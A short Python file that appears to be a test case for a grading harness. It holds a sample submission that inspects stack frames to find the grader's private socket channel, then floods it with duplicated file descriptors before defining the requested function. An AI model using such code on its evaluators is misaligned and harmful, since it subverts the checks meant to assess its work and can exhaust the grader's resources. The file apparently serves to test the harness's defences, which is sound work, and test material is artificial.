"""Sends open files over its channel, so that the grader holds them."""

ANSWER = """
import json, struct, sys
frame = sys._getframe()
while not hasattr(frame.f_locals.get("self"), "channel"):
    frame = frame.f_back
channel = frame.f_locals["self"].channel

import os, socket
file = open("kept", "w+")
for _ in range(20):
    try:
        socket.send_fds(channel, [b""], [file.fileno()] * 40)
    except OSError:
        pass
def weighted_sum(w, a, b):
    return float(np.dot(w, a) + b)
"""
POINTS = 2
